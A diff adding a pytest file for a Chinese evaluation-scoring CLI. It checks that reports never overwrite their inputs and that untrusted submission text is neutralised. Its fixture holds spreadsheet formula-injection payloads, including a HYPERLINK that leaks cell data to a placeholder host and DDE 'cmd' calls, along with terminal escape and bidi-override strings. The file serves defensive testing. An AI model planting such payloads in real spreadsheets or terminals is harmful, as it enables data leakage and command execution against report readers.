@@ -1,0 +1,182 @@
+"""A submission is untrusted: it cannot make ``score`` write over what it reads, and nothing it
+says reaches a terminal, a spreadsheet or a browser as a live instruction."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import tomli_w
+from openpyxl import load_workbook
+
+from . import builder as b
+from .conftest import ROOT, cli
+
+INBOX = ROOT / "evaluations" / "inbox"
+SEED = ROOT / "evaluations" / "2023.toml"
+
+HOSTILE = {
+    "formula": '=HYPERLINK("http://x.example/?"&A1,"点击")',
+    "plus": "+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+    "clear": "部门\x1b[2J\x1b[H伪造",
+    "bell": "响铃\x07退格\x08",
+    "forged": "名称\r\n✓ 全部通过",
+    "bidi": "方向\u202e反转\u2066",
+}
+"""Text a department can type into a name or a reason, aimed at whoever reads the report."""
+
+CONTROL = ["\x1b", "\x07", "\x08", "\r", "\u202e", "\u2066"]
+
+
+@pytest.fixture
+def hostile(tmp_path) -> Path:
+    rows = [b.row("产出指标", text, "≥5个", 8, level2="数量指标", actual="4个", reason=text) for text in HOSTILE.values()]
+    rows.append(b.row("效益指标", "效益", "≥90%", 100 - 8 * len(HOSTILE), level2="社会效益指标", actual="95%"))
+    path = tmp_path / "hostile.toml"
+    doc = b.evaluation(b.project(HOSTILE["formula"], *rows), department=HOSTILE["clear"])
+    path.write_text(tomli_w.dumps(doc), encoding="utf-8")
+    return path
+
+
+# -- never write over what is read ---------------------------------------------------------------
+def _unchanged(*paths: Path):
+    before = {p: p.read_bytes() for p in paths}
+    return lambda: all(p.read_bytes() == data for p, data in before.items())
+
+
+def test_output_never_replaces_a_file_in_the_batch_folder_even_with_force(tmp_path):
+    inbox = shutil.copytree(INBOX, tmp_path / "inbox")
+    victims = [inbox / "丁局-政策宣传.toml", inbox / "approved" / "庚局-安防.toml", inbox / "壬局-水土保持.xlsx"]
+    same = _unchanged(*victims)
+    for victim in victims:
+        result = cli(inbox, "-f", "csv", "-o", victim, "--force", code=2)
+        assert "--force" in result.output and "Traceback" not in result.output
+    assert same()
+
+
+def test_output_never_replaces_the_approved_set_or_policy_an_evaluation_reads(tmp_path):
+    inbox = shutil.copytree(INBOX, tmp_path / "inbox")
+    approved = inbox / "approved" / "庚局-安防.toml"
+    policy = tmp_path / "policy.toml"
+    policy.write_text('id = "mine"\ntitle = "本局细则"\nextends = "central-2020"\n', encoding="utf-8")
+    same = _unchanged(approved, policy)
+    cli(inbox / "庚局-校园安防.toml", "-o", approved, "--force", code=2)
+    cli(SEED, "--policy", policy, "-o", policy, "--force", code=2)
+    cli(inbox, "--policy", policy, "-o", policy, "--force", code=2)
+    book = inbox / "壬局-水土保持.xlsx"
+    cli("import", book, "-o", policy, "--policy", policy, "--force", code=2)
+    cli("import", book, "-o", book, "--force", code=2)
+    cli("import", book, "-o", approved, "--approved", approved, "--force", code=2)
+    assert same()
+
+
+@pytest.mark.parametrize("where", ["folder", "under a file", "device"])
+def test_an_output_that_cannot_be_a_file_is_a_clear_error(tmp_path, where):
+    target = {"folder": tmp_path, "under a file": SEED / "r.csv", "device": Path("/dev/null")}[where]
+    result = cli(SEED, "-f", "csv", "-o", target, "--force", code=2)
+    assert "--output" in result.output and "Traceback" not in result.output
+    assert not list(tmp_path.glob(".*.tmp"))
+
+
+def test_an_output_follows_the_umask(tmp_path):
+    old = os.umask(0o022)
+    try:
+        cli(SEED, "-f", "json", "-o", tmp_path / "r.json", code=(0, 1))
+    finally:
+        os.umask(old)
+    assert (tmp_path / "r.json").stat().st_mode & 0o777 == 0o644
+
+
+def test_sigterm_mid_write_leaves_no_temporary_file(tmp_path):
+    """A scheduler's SIGTERM arrives while the report is half written: no report, no temporary file."""
+    child = (
+        "import os, signal, sys\n"
+        "import scoring.report as report\n"
+        "def half(result, fmt, out, lang, **kw):\n"
+        "    out.write('半份报告')\n"
+        "    out.flush()\n"
+        "    os.kill(os.getpid(), signal.SIGTERM)\n"
+        "    import time; time.sleep(30)\n"
+        "report.render_result = half\n"
+        "from scoring.cli import main\n"
+        "sys.argv = ['score', sys.argv[1], '-o', sys.argv[2]]\n"
+        "main()\n"
+    )
+    target = tmp_path / "r.txt"
+    done = subprocess.run([sys.executable, "-c", child, str(SEED), str(target)], capture_output=True, text=True, timeout=60)
+    assert done.returncode == 128 + 15, done.stderr
+    assert list(tmp_path.iterdir()) == []
+
+
+# -- nothing live reaches the reader -------------------------------------------------------------
+def _no_formula(cell: str) -> bool:
+    return not cell or cell[0] not in "=+-@\t\r" or cell.lstrip("+-").replace(".", "", 1).isdigit()
+
+
+def test_csv_cells_never_start_a_formula(hostile):
+    doc = b.evaluation(b.project("项目", b.row("产出指标", "数量", "≥5个", 100, actual="5个")), department=HOSTILE["at"])
+    (hostile.parent / "second.toml").write_text(tomli_w.dumps(doc), encoding="utf-8")
+    for args, planted in (([hostile], HOSTILE["formula"]), ([hostile.parent], HOSTILE["at"])):  # one file's rows, a batch's summary
+        out = cli(*args, "-f", "csv", code=(0, 1)).output
+        cells = [c for row in csv.reader(io.StringIO(out.lstrip("\ufeff"), newline="")) for c in row]
+        assert cells and all(map(_no_formula, cells)), [c for c in cells if not _no_formula(c)]
+        assert "'" + planted in cells  # kept, readable, inert
+
+
+@pytest.mark.parametrize("fmt", ["table", "markdown", "html", "csv"])
+def test_no_control_character_reaches_the_reader(hostile, fmt):
+    out = cli(hostile, "-f", fmt, *(["--explain"] if fmt == "table" else []), code=(0, 1)).output
+    leaked = [c for c in CONTROL if c in out]
+    assert not leaked, leaked
+    assert "\\x1b" in out  # shown, escaped: the reader sees what was typed
+
+
+def test_batch_outputs_carry_no_control_character(hostile):
+    for fmt in ("table", "markdown", "html", "csv"):
+        out = cli(hostile.parent, "-f", fmt, code=(0, 1)).output
+        assert not [c for c in CONTROL if c in out], fmt
+
+
+def test_error_messages_show_what_was_typed_escaped(write):
+    path = write("bad.toml", 'department = "部门\\u001b[2J"\nyear = "二〇二三\\u0007"\n')
+    result = cli(path, code=2)
+    assert "\x1b" not in result.output and "\x07" not in result.output
+    assert "\\x07" in result.output
+
+
+def test_json_keeps_the_text_exactly(hostile):
+    """JSON is for programs: its strings are escaped by JSON itself and hold exactly what was typed."""
+    data = json.loads(cli(hostile, "-f", "json", code=(0, 1)).output)
+    assert data["department"] == HOSTILE["clear"]
+
+
+def test_the_workbook_holds_what_excel_can_and_says_what_it_cut(tmp_path):
+    names = ["History", "a/b:c*?[d]", "'引号'", "中" * 40, "中" * 40 + "乙", "项目\x1b名"]
+    long_reason = "原因" * 20_000
+    rows = lambda: [b.row("产出指标", "数量", "≥5个", 100, level2="数量指标", actual="4个", reason=long_reason)]  # noqa: E731
+    doc = b.evaluation(*(b.project(n, *rows()) for n in names))
+    source = tmp_path / "e.toml"
+    source.write_text(tomli_w.dumps(doc), encoding="utf-8")
+    cli(source, "-f", "xlsx", "-o", tmp_path / "e.xlsx", code=(0, 1))
+    wb = load_workbook(tmp_path / "e.xlsx")
+    titles = wb.sheetnames
+    assert len(titles) == len(set(t.lower() for t in titles)) == len(names) + 1
+    for title in titles:
+        assert len(title) <= 31 and not set(title) & set("[]:*?/\\") and title.lower() != "history"
+        assert not title.startswith("'") and not title.endswith("'") and "\x1b" not in title
+    cells = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert max(map(len, cells)) <= 32767
+    assert any("\\x1b" in c for c in cells)
+    warning = wb.worksheets[0]["A2"].value
+    assert warning.startswith("警告") and str(len(names)) in warning
